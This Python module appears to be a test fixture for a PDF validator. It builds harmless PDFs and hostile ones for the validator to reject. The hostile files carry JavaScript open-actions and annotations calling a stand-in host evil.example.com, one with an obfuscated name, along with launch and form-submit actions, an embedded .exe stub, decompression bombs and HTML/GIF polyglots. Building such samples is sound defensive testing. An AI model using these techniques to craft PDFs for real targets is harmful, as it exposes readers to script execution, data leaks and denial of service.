"""PDFs, plain and hostile, made as they are needed."""

import io
import re
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf

from sorbo_core.files.faults import Fault

_SCRIPT = "app.launchURL('https://evil.example.com')"


def paper(change: Callable[[Pdf], None] = lambda _: None, **how: object) -> bytes:
    """Return a PDF of one page, changed."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    pdf.pages[0].Resources = Dictionary(Font=Dictionary(F1=pdf.make_indirect(font)))
    pdf.pages[0].Contents = pdf.make_stream(b"BT /F1 12 Tf 72 720 Td (Ingenieur structure) Tj ET")
    change(pdf)
    output = io.BytesIO()
    pdf.save(output, **how)  # type: ignore[arg-type]  # — options of `save`, passed on
    return output.getvalue()


def _script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=_SCRIPT)


def _opens_with_script(pdf: Pdf) -> None:
    pdf.Root.OpenAction = _script()


def _opens_with_indirect_script(pdf: Pdf) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(
        Dictionary(S=Name.GoTo, D=Array([0]), Next=pdf.make_indirect(Array([pdf.make_indirect(_script())])))
    )


def _named_script(pdf: Pdf) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", pdf.make_indirect(_script())])))


def _page_that_acts(pdf: Pdf) -> None:
    pdf.pages[0].AA = Dictionary(O=_script())


def _script_in_an_annotation(pdf: Pdf) -> None:
    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=_script())
    pdf.pages[0].Annots = pdf.make_indirect(Array([pdf.make_indirect(note)]))


def _script_that_nothing_leads_to() -> bytes:
    def change(pdf: Pdf) -> None:
        pdf.Root.Held = pdf.make_indirect(_script())

    return re.sub(rb"/Held \d 0 R", b"/Held null ", paper(change))


def _action(kind: str) -> Callable[[Pdf], None]:
    def change(pdf: Pdf) -> None:
        action = Dictionary(S=Name(kind), F="//evil.example.com/share", URI="https://example.com")
        note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)
        pdf.pages[0].Annots = Array([pdf.make_indirect(note)])

    return change


def _leads_to(address: str) -> Callable[[Pdf], None]:
    def change(pdf: Pdf) -> None:
        action = Dictionary(S=Name.URI, URI=address)
        pdf.pages[0].Annots = Array(
            [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)]
        )

    return change


def _attached(pdf: Pdf) -> None:
    pdf.attachments["facture.exe"] = b"MZ"


def _form_of_xfa(pdf: Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))


def _rich_media(pdf: Pdf) -> None:
    pdf.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9])])


def _kept_elsewhere(pdf: Pdf) -> None:
    pdf.pages[0].Contents = pdf.make_stream(b"", F="https://evil.example.com/page")


def _bomb(pdf: Pdf) -> None:
    stream = pdf.make_stream(b"")
    stream.write(zlib.compress(bytes(60_000_000)), filter=Name.FlateDecode)
    pdf.pages[0].Contents = stream


def _bomb_in_a_bomb(pdf: Pdf) -> None:
    stream = pdf.make_stream(b"")
    inner = zlib.compress(bytes(60_000_000))
    stream.write(zlib.compress(inner), filter=Array([Name.FlateDecode, Name.FlateDecode]))
    pdf.pages[0].Contents = stream


def _huge_image(pdf: Pdf) -> None:
    size = {"Width": 65_500, "Height": 65_500, "BitsPerComponent": 8, "ColorSpace": Name.DeviceGray}
    pdf.Root.X = pdf.make_stream(zlib.compress(b""), Subtype=Name.Image, **size)


def _many_pages(pdf: Pdf) -> None:
    for _ in range(2_001):
        pdf.add_blank_page()


def _many_objects(pdf: Pdf) -> None:
    pdf.Root.X = Array([pdf.make_indirect(Array([])) for _ in range(100_001)])


_PACKED = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}


def hostile_papers() -> dict[str, tuple[bytes, Fault]]:
    """Return PDFs that must be refused, by what they are, and why."""
    plain = paper()
    # As many bytes as before, for the table that says where objects are.
    spelled = paper(_opens_with_script).replace(b"example.com", b"example")
    spelled = spelled.replace(b"/JavaScript", b"/J#61v#61Script")
    acting, outside = Fault.ACTIVE_CONTENT, Fault.EXTERNAL_REFERENCE
    return {
        "a script in a direct object": (paper(_opens_with_script), acting),
        "a script behind references": (paper(_opens_with_indirect_script), acting),
        "a script in an object stream": (paper(_opens_with_indirect_script, **_PACKED), acting),
        "a script that nothing leads to": (_script_that_nothing_leads_to(), acting),
        "a script that is spelled otherwise": (spelled, acting),
        "a named script": (acting_paper(), acting),
        "a page that acts": (paper(_page_that_acts), acting),
        "a script in an annotation": (paper(_script_in_an_annotation, **_PACKED), acting),
        "a script in a direct object, packed": (paper(_opens_with_script, **_PACKED), acting),
        "a program that is launched": (paper(_action("/Launch")), acting),
        "a form that is sent": (paper(_action("/SubmitForm")), outside),
        "data that are fetched": (paper(_action("/ImportData")), outside),
        "a link to another document": (paper(_action("/GoToR")), outside),
        "a link that is a script": (paper(_leads_to("javascript:alert(1)")), outside),
        "a link to a share": (paper(_leads_to("\\\\evil.example.com\\share")), outside),
        "a link into an attachment": (paper(_action("/GoToE")), outside),
        "an attachment": (paper(_attached), Fault.EMBEDDED_FILE),
        "a form of XFA": (paper(_form_of_xfa), acting),
        "rich media": (paper(_rich_media), acting),
        "a stream that is elsewhere": (paper(_kept_elsewhere), outside),
        "a stream that unfolds a thousandfold": (paper(_bomb), Fault.BOMB),
        "a bomb in a bomb": (paper(_bomb_in_a_bomb), Fault.BOMB),
        "an image without end": (paper(_huge_image), Fault.TOO_MANY_PIXELS),
        "pages without end": (paper(_many_pages), Fault.BOMB),
        "objects without end": (paper(_many_objects), Fault.BOMB),
        "a password to open it": (
            paper(encryption=pikepdf.Encryption(owner="patron", user="secret")),
            Fault.ENCRYPTED,
        ),
        "a password to change it": (
            paper(encryption=pikepdf.Encryption(owner="patron", user="")),
            Fault.ENCRYPTED,
        ),
        "half of it": (plain[: len(plain) // 2], Fault.TRUNCATED),
        "all but its end": (plain[:-20], Fault.TRUNCATED),
        "a table that leads nowhere": (plain.replace(b"xref\n0", b"xxxx\n0"), Fault.UNREADABLE),
        "nonsense": (b"%PDF-1.7\n" + b"\x00\xff" * 5_000 + b"%%EOF", Fault.UNREADABLE),
        "a page of HTML behind its first line": (
            plain.replace(b"\n", b"\n%<html><script>alert(1)</script>\n", 1),
            Fault.POLYGLOT,
        ),
        "a page of HTML behind its end": (plain + b"<html><body>", Fault.POLYGLOT),
        "a GIF before it": (b"GIF89a" + plain, Fault.POLYGLOT),
        "HTML before it": (b"<html>" + plain, Fault.POLYGLOT),
        "much behind its end": (plain + b"x" * 10_000, Fault.POLYGLOT),
    }


def acting_paper() -> bytes:
    """Return a PDF with a script."""
    return paper(_named_script, **_PACKED)


def paper_around(inner: bytes) -> bytes:
    """Return a PDF that holds these bytes as they are, in a stream."""

    def change(pdf: Pdf) -> None:
        pdf.Root.Held = pdf.make_stream(inner)

    return paper(change, compress_streams=False)


def harmless_papers() -> dict[str, bytes]:
    """Return PDFs that must be accepted, by what they are."""
    return {
        "a page": paper(),
        "a page, packed": paper(**_PACKED),
        "a page for the web": paper(linearize=True),
        "a link to a site": paper(_action("/URI")),
        "a link within": paper(_action("/GoTo")),
        "line ends behind its end": paper() + b"\r\n\0\0",
    }
